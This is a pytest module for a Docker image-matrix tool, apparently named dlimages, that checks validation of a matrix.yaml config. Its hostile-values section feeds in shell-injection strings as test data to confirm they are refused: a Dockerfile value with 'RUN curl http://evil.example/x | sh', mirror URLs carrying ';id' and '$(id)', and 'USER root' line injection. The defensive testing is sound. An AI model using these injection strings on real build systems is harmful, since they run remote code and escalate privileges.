"""matrix.yaml validation: one test per message a user can get, each naming the key path and what is allowed.

Broken inputs are edits of the fixture matrix (tests/fixtures/matrix.yaml); lists the messages quote from it are
read from it, so adding a release there changes no expectation here.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from dlimages.core.errors import InputError
from dlimages.model.matrixyaml import VersionsAsText
from dlimages.model.spec import Matrix, load_matrix, override_applies, parse_matrix

FIXTURE_MATRIX = Path(__file__).resolve().parents[2] / "fixtures/matrix.yaml"
MATRIX_TEXT = FIXTURE_MATRIX.read_text(encoding="utf-8")
_FIXTURE = yaml.load(MATRIX_TEXT, Loader=VersionsAsText)  # noqa: S506 - a SafeLoader subclass

Report = Callable[[dict[str, Any] | str], str]
Parse = Callable[[dict[str, Any] | str], Matrix]


def _replace_line(text: str, old: str, new: str) -> tuple[str, int]:
    """Replace the one line equal to `old` (stripped) and return the new text and its 1-based line number."""
    lines = text.splitlines(keepends=True)
    hits = [i for i, line in enumerate(lines) if line.strip() == old]
    assert len(hits) == 1, f"expected exactly one line {old!r} in matrix.yaml"
    indent = lines[hits[0]][: len(lines[hits[0]]) - len(lines[hits[0]].lstrip())]
    lines[hits[0]] = f"{indent}{new}\n"
    return "".join(lines), hits[0] + 1


def test_the_fixture_matrix_is_valid_and_survives_the_test_round_trip(
    matrix: Matrix, parse: Parse, data: dict[str, Any]
) -> None:
    # The helpers below edit a dumped copy; it must mean exactly what matrix.yaml means.
    assert parse(data) == matrix


# --- YAML-level problems ---------------------------------------------------------------------------------


def test_yaml_syntax_error_names_the_line(report: Report) -> None:
    text, line = _replace_line(MATRIX_TEXT, "release: v0.9", "release: v0.9: oops")
    assert report(text) == f"error: matrix.yaml:{line}: not valid YAML: mapping values are not allowed here"


def test_duplicate_yaml_key_is_refused_with_both_lines(report: Report) -> None:
    first = MATRIX_TEXT.splitlines().index("release: v0.9") + 1
    text = MATRIX_TEXT + "release: v2.0\n"
    duplicate = len(text.splitlines())
    assert report(text) == (
        f"error: matrix.yaml:{duplicate}: not valid YAML: duplicate key 'release' (first at line {first})"
    )


def test_duplicate_version_key_is_refused(report: Report) -> None:
    # Two entries for one CUDA version: the second would silently replace the first in a plain YAML loader.
    text = MATRIX_TEXT.replace('  "11.0":\n    toolkit: 11.0.3', '  "11.8":\n    toolkit: 11.0.3', 1)
    assert text != MATRIX_TEXT
    assert "not valid YAML: duplicate key '11.8'" in report(text)


@pytest.mark.parametrize("text", ["", "- a\n- b\n", "just text\n"], ids=["empty", "list", "scalar"])
def test_top_level_must_be_a_mapping(report: Report, text: str) -> None:
    assert report(text) == "error: matrix.yaml: must be a mapping of keys at the top level"


def test_unreadable_file_is_an_input_error(tmp_path: Path) -> None:
    missing = tmp_path / "matrix.yaml"
    with pytest.raises(InputError) as caught:
        load_matrix(missing)
    assert caught.value.report() == f"error: {missing}: cannot read: No such file or directory"


def test_unquoted_versions_are_read_as_text_not_numbers(parse: Parse) -> None:
    text = MATRIX_TEXT.replace('python: ["3.8", "3.10", "3.11"]', "python: [3.8, 3.10, 3.11]", 1)
    text = text.replace('cuda: ["11.0", "11.8", "12.1"]', "cuda: [11.0, 11.8, 12.1]", 1)
    assert text != MATRIX_TEXT
    axes = parse(text).axes
    assert axes.python == ["3.8", "3.10", "3.11"]  # not 3.1
    assert axes.cuda == ["11.0", "11.8", "12.1"]  # not 11


def test_reading_versions_as_text_does_not_change_pyyaml_for_everyone_else() -> None:
    assert yaml.safe_load("version: 3.10\ncount: 1\n") == {"version": 3.1, "count": 1}


@pytest.mark.parametrize(
    "text",
    [
        "\tschema_version: 1\n",
        "images: 5\n",
        "schema_version: [\n",
        "a: *undefined\n",
        "--- {a: 1}\n--- {b: 2}\n",
        "frameworks: {pytorch: {package: torch, releases: {'2.1.2': 5}}}\n",
        "cuda: {'11.8': {toolkit: [1, 2], min_driver: {x: 1}}}\n",
        "axes: {cuda: [!!float 11.0], python: [!!int 3], flavor: [~]}\n",
    ],
    ids=[
        "tab",
        "wrong-type",
        "unclosed",
        "bad-alias",
        "two-documents",
        "nested-wrong-type",
        "deep-wrong-types",
        "tags",
    ],
)
def test_garbage_gives_input_errors_never_tracebacks(text: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_matrix(text)
    assert caught.value.problems
    assert all(str(problem).startswith("matrix.yaml") for problem in caught.value.problems)


def test_unhashable_yaml_key_is_an_input_error() -> None:
    with pytest.raises(InputError):
        parse_matrix("? [a, b]\n: c\n")


# --- Schema problems (pydantic) ----------------------------------------------------------------------------


def test_unknown_key_names_its_path_and_the_allowed_keys(report: Report, data: dict[str, Any]) -> None:
    variant = data["frameworks"]["pytorch"]["releases"]["2.1.2"]["variants"]["11.8"]
    variant["cdnn"] = variant.pop("cudnn")
    text = report(data)
    assert (
        'error: matrix.yaml: frameworks.pytorch.releases."2.1.2".variants."11.8".cdnn: unknown key '
        "(allowed: cudnn, cuda_libs, arch, local_version, index_url, find_links, pypi_default, extras, cuda_packages, "
        "caveats)"
    ) in text.splitlines()


def test_unknown_top_level_key(report: Report, data: dict[str, Any]) -> None:
    data["flavours"] = data["flavors"]
    assert (
        "error: matrix.yaml: flavours: unknown key (allowed: schema_version, release, publisher, images, axes, "
        "flavors, cuda, os, nvidia_cuda, arch_lists, frameworks, partials, packages, mirrors)"
    ) in report(data).splitlines()


def test_unknown_framework_names_the_known_ones(report: Report, data: dict[str, Any]) -> None:
    data["images"]["jax"] = data["images"]["pytorch"]
    data["frameworks"]["jax"] = data["frameworks"]["pytorch"]
    assert report(data).splitlines() == [
        f"error: matrix.yaml: {section}.jax: the key 'jax' is not well formed: Value error, unknown framework 'jax' "
        "(allowed: pytorch, tensorflow)"
        for section in ("images", "frameworks")
    ]


def test_missing_required_key(report: Report, data: dict[str, Any]) -> None:
    del data["cuda"]["11.8"]["min_driver"]
    assert report(data) == 'error: matrix.yaml: cuda."11.8".min_driver: required key is missing'


def test_badly_formed_value_shows_the_expected_pattern(report: Report, data: dict[str, Any]) -> None:
    data["cuda"]["11.8"]["min_driver"] = "520"
    assert report(data) == (
        "error: matrix.yaml: cuda.\"11.8\".min_driver: '520' is not well formed "
        r"(allowed: text matching ^[0-9]+\.[0-9]+(\.[0-9]+)?$)"
    )


def test_value_outside_a_fixed_choice(report: Report, data: dict[str, Any]) -> None:
    data["frameworks"]["tensorflow"]["releases"]["2.4.4"]["variants"]["11.0"]["cuda_libs"] = "bundled"
    assert report(data) == (
        'error: matrix.yaml: frameworks.tensorflow.releases."2.4.4".variants."11.0".cuda_libs: '
        "'bundled' is not allowed (allowed: 'wheel' or 'system')"
    )


def test_an_explicit_tag_that_would_make_a_number_is_refused(report: Report) -> None:
    # The loader reads plain scalars such as 3.10 as text; an explicit tag is the only way to make a number, and
    # explicit tags are refused outright (PyYAML's own constructors for them crash on hostile values).
    text = MATRIX_TEXT.replace('python: ["3.8", "3.10", "3.11"]', 'python: ["3.8", !!float 3.10, "3.11"]', 1)
    line = next(i for i, row in enumerate(text.splitlines(), 1) if "!!float" in row)
    assert report(text) == (
        f"error: matrix.yaml:{line}: explicit YAML tags are not allowed (found !!float); write the value plainly"
    )


def test_other_schema_problems_quote_the_offending_value(report: Report, data: dict[str, Any]) -> None:
    data["axes"]["cuda"] = []
    assert report(data) == (
        "error: matrix.yaml: axes.cuda: List should have at least 1 item after validation, not 0 (got [])"
    )


def test_mirrors_need_a_none_profile(report: Report, data: dict[str, Any]) -> None:
    del data["mirrors"]["none"]
    text = report(data)
    assert text.startswith("error: matrix.yaml: mirrors: ")
    assert "a `none` profile (upstream defaults) is required" in text


def test_every_problem_is_reported_at_once(report: Report, data: dict[str, Any]) -> None:
    data["release"] = "1.0"  # needs the leading v
    data["axes"]["flavor"].append("Slim")  # names are lower case
    del data["os"]["debian12"]["codename"]
    data["packages"]["pip"] = "latest"
    lines = report(data).splitlines()
    assert len(lines) == 4, lines
    assert [line.split(": ")[2] for line in lines] == [
        "release",
        "axes.flavor[2]",
        "os.debian12.codename",
        "packages.pip",
    ]


# --- Cross-references (cross_check) -------------------------------------------------------------------------


def _edit(path: tuple[str, ...], value: Any) -> Callable[[dict[str, Any]], None]:
    def apply(data: dict[str, Any]) -> None:
        node = data
        for key in path[:-1]:
            node = node[key]
        if value is _DELETE:
            del node[path[-1]]
        else:
            node[path[-1]] = value(node) if callable(value) else value

    return apply


_DELETE = object()
_FRAMEWORK_RELEASES = ", ".join(
    sorted(f"{fw['package']}=={version}" for fw in _FIXTURE["frameworks"].values() for version in fw["releases"])
)
_PYTORCH_211_CU118 = ("frameworks", "pytorch", "releases", "2.1.2", "variants", "11.8")


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        pytest.param(
            _edit(("axes", "cuda"), ["11.0", "11.8", "12.1", "12.4"]),
            "matrix.yaml: axes.cuda[3]: CUDA 12.4 has no entry under `cuda:` (allowed: 11.0, 11.8, 12.1)",
            id="axis-cuda-unknown",
        ),
        pytest.param(
            _edit(("axes", "python"), ["3.8", "3.10", "3.11", "3.12"]),
            "matrix.yaml: axes.python[3]: no OS under `os:` provides Python 3.12 (allowed: 3.8, 3.10, 3.11)",
            id="axis-python-no-os",
        ),
        pytest.param(
            _edit(("axes", "flavor"), ["runtime", "devel", "slim"]),
            "matrix.yaml: axes.flavor[2]: flavor 'slim' is not described under `flavors:` (allowed: runtime, devel)",
            id="axis-flavor-undescribed",
        ),
        pytest.param(
            _edit(("images", "tensorflow"), _DELETE),
            "matrix.yaml: frameworks.tensorflow: every image needs a framework entry and vice versa",
            id="image-without-framework",
        ),
        pytest.param(
            _edit(("nvidia_cuda", "toolkits", "12.4"), {"os": ["ubuntu22.04"], "cudnn": "8.9.7"}),
            'matrix.yaml: nvidia_cuda.toolkits."12.4": unknown CUDA version 12.4 (allowed: 11.0, 11.8, 12.1)',
            id="base-image-cuda-unknown",
        ),
        pytest.param(
            _edit(("nvidia_cuda", "toolkits", "11.8", "os"), ["ubuntu20.04", "ubuntu24.04"]),
            "matrix.yaml: nvidia_cuda.toolkits.\"11.8\".os[1]: unknown OS 'ubuntu24.04' "
            "(allowed: ubuntu20.04, ubuntu22.04, debian12)",
            id="base-image-os-unknown",
        ),
        pytest.param(
            _edit(
                ("frameworks", "pytorch", "releases", "2.1.2", "variants", "12.4"),
                lambda variants: copy.deepcopy(variants["12.1"]),
            ),
            'matrix.yaml: frameworks.pytorch.releases."2.1.2".variants."12.4": unknown CUDA version 12.4 '
            "(allowed: 11.0, 11.8, 12.1)",
            id="variant-cuda-unknown",
        ),
        pytest.param(
            _edit((*_PYTORCH_211_CU118, "index_url"), _DELETE),
            'matrix.yaml: frameworks.pytorch.releases."2.1.2".variants."11.8": '
            "a PyTorch CUDA variant needs `index_url` or `find_links`",
            id="pytorch-variant-without-index",
        ),
        pytest.param(
            _edit((*_PYTORCH_211_CU118, "find_links"), "https://download.example.org/whl/torch_stable.html"),
            'matrix.yaml: frameworks.pytorch.releases."2.1.2".variants."11.8": '
            "give either `index_url` or `find_links`, not both",
            id="index-and-find-links",
        ),
        pytest.param(
            _edit(("packages", "overrides", "tensorflow==2.5.0"), {"numpy": "1.19.5"}),
            "matrix.yaml: packages.overrides.tensorflow==2.5.0: names no framework release (allowed: a framework "
            "package or `python` with conditions that hold for one of its releases or Python versions, e.g. "
            "tensorflow==2.4.0, torch>=2.5, tensorflow>=2.15,<2.18, python>=3.12; releases: "
            f"{_FRAMEWORK_RELEASES})",
            id="override-unknown-release",
        ),
        pytest.param(
            _edit(("packages", "overrides", "tensorflow==2.4.4", "keras"), "2.4.3"),
            "matrix.yaml: packages.overrides.tensorflow==2.4.4.keras: overrides a package the default set does not "
            "have (allowed: numpy, pandas, scipy, jupyterlab, ipykernel)",
            id="override-unknown-package",
        ),
        pytest.param(
            _edit(("mirrors", "none", "pypi"), "https://pypi.example.org/simple"),
            "matrix.yaml: mirrors.none: the `none` profile must not set any mirror",
            id="none-profile-with-mirror",
        ),
        pytest.param(
            _edit(("mirrors", "cloud", "pytorch_wheels"), "https://mirror.example.org/pytorch-wheels/"),
            "matrix.yaml: mirrors.cloud.pytorch_wheels: must contain the `{variant}` placeholder (e.g. cu118)",
            id="pytorch-wheels-without-placeholder",
        ),
    ],
)
def test_cross_reference_problem(
    report: Report, data: dict[str, Any], edit: Callable[[dict[str, Any]], None], expected: str
) -> None:
    edit(data)
    assert report(data) == f"error: {expected}"


def test_cross_reference_problems_are_all_reported(report: Report, data: dict[str, Any]) -> None:
    data["axes"]["cuda"].append("12.4")
    data["mirrors"]["none"]["pypi"] = "https://pypi.example.org/simple"
    data["packages"]["overrides"]["tensorflow==2.4.4"]["keras"] = "2.4.3"
    wheres = [line.split(": ")[2] for line in report(data).splitlines()]
    assert wheres == ["axes.cuda[3]", "packages.overrides.tensorflow==2.4.4.keras", "mirrors.none"]


def test_load_matrix_names_the_file_it_read(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    path.write_text(MATRIX_TEXT.replace("release: v0.9", "release: 0.9", 1), encoding="utf-8")
    with pytest.raises(InputError) as caught:
        load_matrix(path)
    assert caught.value.report().startswith("error: matrix.yaml: release: '0.9' is not well formed")
    assert load_matrix(FIXTURE_MATRIX).release == "v0.9"


# --- Hostile values (issue 8): nothing that could change a Dockerfile, a shell command or leak a secret --------

INJECTING_MIRROR = "http://x/;echo${IFS}INJECTED>/dev/stderr;id>/dev/stderr;#e"
URL_ALLOWED = "http(s)://host[:port]/path with letters, digits and . _ ~ + = , - / %XX"
SHELL_CHARACTER = "has ';' in its path (query strings, fragments and shell characters are not allowed)"
CREDENTIALS = "carries credentials (user:password@): give them with --netrc FILE (a BuildKit secret) instead"
_URL_FIELDS = [
    ("mirrors", "campus", "apt", "ubuntu"),
    ("mirrors", "campus", "apt", "debian"),
    ("mirrors", "campus", "apt", "debian_security"),
    ("mirrors", "campus", "pypi"),
    ("mirrors", "cloud", "pytorch_wheels"),
    (*_PYTORCH_211_CU118, "index_url"),
    ("frameworks", "pytorch", "releases", "1.7.1", "variants", "11.0", "find_links"),
]


def _where(path: tuple[str, ...]) -> str:
    return ".".join(f'"{key}"' if "." in key else key for key in path)


def _set(data: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    node = data
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value


@pytest.mark.parametrize("path", _URL_FIELDS, ids=[".".join(p[-2:]) for p in _URL_FIELDS])
def test_a_url_with_shell_characters_is_refused(report: Report, data: dict[str, Any], path: tuple[str, ...]) -> None:
    _set(data, path, INJECTING_MIRROR)
    allowed = URL_ALLOWED + (" and {variant}" if path[-1] == "pytorch_wheels" else "")
    assert report(data) == f"error: matrix.yaml: {_where(path)}: the URL {SHELL_CHARACTER} (allowed: {allowed})"


@pytest.mark.parametrize("path", _URL_FIELDS, ids=[".".join(p[-2:]) for p in _URL_FIELDS])
def test_a_url_with_credentials_is_refused_with_the_netrc_advice(
    report: Report, data: dict[str, Any], path: tuple[str, ...]
) -> None:
    suffix = "/{variant}/" if path[-1] == "pytorch_wheels" else "/simple"
    _set(data, path, f"https://builder:s3cret-token@private.example.org{suffix}")
    text = report(data)
    allowed = URL_ALLOWED + (" and {variant}" if path[-1] == "pytorch_wheels" else "")
    assert text == f"error: matrix.yaml: {_where(path)}: the URL {CREDENTIALS} (allowed: {allowed})"
    assert "s3cret-token" not in text  # the secret is never printed back


@pytest.mark.parametrize(
    "path",
    [
        ("cuda", "11.8", "source"),
        ("os", "debian12", "source"),
        ("nvidia_cuda", "source"),
        ("frameworks", "pytorch", "releases", "2.1.2", "source"),
        ("frameworks", "pytorch", "releases", "2.1.2", "python_source"),
        ("mirrors", "cloud", "source"),
    ],
)
def test_documentation_links_may_have_a_fragment_but_no_shell_characters(
    parse: Parse, report: Report, data: dict[str, Any], path: tuple[str, ...]
) -> None:
    _set(data, path, "https://docs.example.org/notes/index.html#section-2")
    parse(data)
    _set(data, path, "https://docs.example.org/notes/$(id)")
    assert report(data) == (
        f"error: matrix.yaml: {_where(path)}: the URL has '$' in its path (query strings, fragments and shell "
        f"characters are not allowed) (allowed: {URL_ALLOWED}, then an optional #fragment)"
    )


@pytest.mark.parametrize("field", ["{other}", "{0}", "{variant.real}", "{variant}{x}"])
def test_pytorch_wheels_allows_no_format_field_but_variant(report: Report, data: dict[str, Any], field: str) -> None:
    # These made str.format raise KeyError, IndexError or AttributeError (a traceback) during a build or dry run.
    data["mirrors"]["cloud"]["pytorch_wheels"] = f"https://cloud.example.net/pytorch-wheels/{field}/"
    assert report(data) == (
        "error: matrix.yaml: mirrors.cloud.pytorch_wheels: the URL has a format field other than {variant}, the "
        f"only placeholder allowed (allowed: {URL_ALLOWED} and {{variant}})"
    )


@pytest.mark.parametrize(
    "image",
    [
        "ubuntu:22.04\nRUN curl http://evil.example/x | sh",
        "ubuntu:22.04\nUSER root",
        "ubuntu:22.04 AS x",
        "ubuntu:22.04\r\nRUN id",
        "--help",
        "Ubuntu:22.04",
    ],
    ids=["newline-run", "newline-user", "as-stage", "carriage-return", "option", "upper-case"],
)
def test_an_os_image_must_be_an_image_reference(report: Report, data: dict[str, Any], image: str) -> None:
    data["os"]["ubuntu22.04"]["image"] = image
    lines = report(data).splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith('error: matrix.yaml: os."ubuntu22.04".image: the image reference ')
    assert lines[0].endswith("(allowed: [registry[:port]/]repository[:tag][@sha256:...])")


def test_the_nvidia_repository_must_be_a_repository_without_a_tag(report: Report, data: dict[str, Any]) -> None:
    allowed = "(allowed: [registry[:port]/]repository, e.g. nvidia/cuda)"
    data["nvidia_cuda"]["repository"] = "nvidia/cuda\nUSER root"
    assert report(data) == (
        "error: matrix.yaml: nvidia_cuda.repository: the repository has whitespace or characters outside "
        f"printable ASCII {allowed}"
    )
    data["nvidia_cuda"]["repository"] = "nvidia/cuda:latest"
    assert report(data) == (
        "error: matrix.yaml: nvidia_cuda.repository: the repository has a :tag or @digest; give the repository "
        f"alone (each cell adds its own tag) {allowed}"
    )


def test_one_problem_per_bad_key_path(report: Report, data: dict[str, Any]) -> None:
    data["os"]["ubuntu20.04"]["image"] = "ubuntu:20.04\nRUN id"
    data["os"]["debian12"]["image"] = "dlimages/base:debian12 AS base"
    data["nvidia_cuda"]["repository"] = "nvidia/cuda\nUSER root"
    data["mirrors"]["campus"]["apt"]["debian"] = INJECTING_MIRROR
    data["mirrors"]["cloud"]["pypi"] = "https://u:p@cloud.example.net/pypi/simple/"
    wheres = [line.split(": ")[2] for line in report(data).splitlines()]
    assert wheres == [
        'os."ubuntu20.04".image',
        "os.debian12.image",
        "nvidia_cuda.repository",
        "mirrors.campus.apt.debian",
        "mirrors.cloud.pypi",
    ]


# Arabic-Indic, fullwidth and Devanagari digits: Python's \d (and pydantic's Rust regex) match them, int() reads them.
_FOREIGN_DIGITS = {"arabic-indic": "\u0663.\u0661", "fullwidth": "\uff13.\uff11", "devanagari": "\u0969.\u0967"}


@pytest.mark.parametrize(
    ("path", "value", "pattern"),
    [
        (("release",), "v{}", r"^v[0-9]+(\.[0-9]+)*$"),
        (("cuda", "11.8", "toolkit"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
        (("cuda", "11.8", "min_driver"), "{}", r"^[0-9]+\.[0-9]+(\.[0-9]+)?$"),
        (("packages", "pip"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
        (("packages", "default", "numpy"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
        (("os", "debian12", "python"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
        (("frameworks", "pytorch", "releases", "2.1.2", "companions", "torchvision"), "{}", r"^[0-9]+(\.[0-9]+)*$"),
    ],
    ids=["release", "toolkit", "min_driver", "pip", "package-pin", "os-python", "companion"],
)
@pytest.mark.parametrize("digits", _FOREIGN_DIGITS.values(), ids=_FOREIGN_DIGITS.keys())
def test_versions_take_ascii_digits_only(
    report: Report, data: dict[str, Any], path: tuple[str, ...], value: str, pattern: str, digits: str
) -> None:
    _set(data, path, value.format(digits))
    assert report(data) == (
        f"error: matrix.yaml: {_where(path)}: {value.format(digits)!r} is not well formed "
        f"(allowed: text matching {pattern})"
    )


def test_architectures_and_names_take_ascii_only(report: Report, data: dict[str, Any]) -> None:
    data["cuda"]["11.8"]["gpu_archs"][-1] = "sm_\u0669\u0660"
    data["axes"]["flavor"][1] = "d\u0435vel"  # Cyrillic e
    lines = report(data).splitlines()
    assert [line.split(": ")[2] for line in lines] == [
        "axes.flavor[1]",
        'cuda."11.8".gpu_archs[' + str(len(data["cuda"]["11.8"]["gpu_archs"]) - 1) + "]",
    ]


@pytest.mark.parametrize(
    ("key", "package", "version", "holds"),
    [
        ("tensorflow==2.4.0", "tensorflow", "2.4.0", True),
        ("tensorflow==2.4.0", "tensorflow", "2.4.4", False),
        ("tensorflow==2.18", "tensorflow", "2.18.1", True),  # == holds as far as the version given goes
        ("torch>=2.5", "torch", "2.4.1", False),
        ("torch>=2.5", "torch", "2.15.0", True),
        ("tensorflow>=2.15,<2.18", "tensorflow", "2.17.1", True),
        ("tensorflow>=2.15,<2.18", "tensorflow", "2.18.1", False),
        ("python>=3.12", "python", "3.13", True),
        ("python>=3.12", "python", "3.11", False),
        ("torchvision>=0.2", "torch", "2.5.1", False),  # another package whose name starts with the same letters
        ("torch", "torch", "2.5.1", False),  # no condition
        ("torch~=2.5", "torch", "2.5.1", False),  # an operator it does not know
    ],
)
def test_an_override_key_holds_for_the_releases_it_names(key: str, package: str, version: str, holds: bool) -> None:
    assert override_applies(key, package, version) is holds
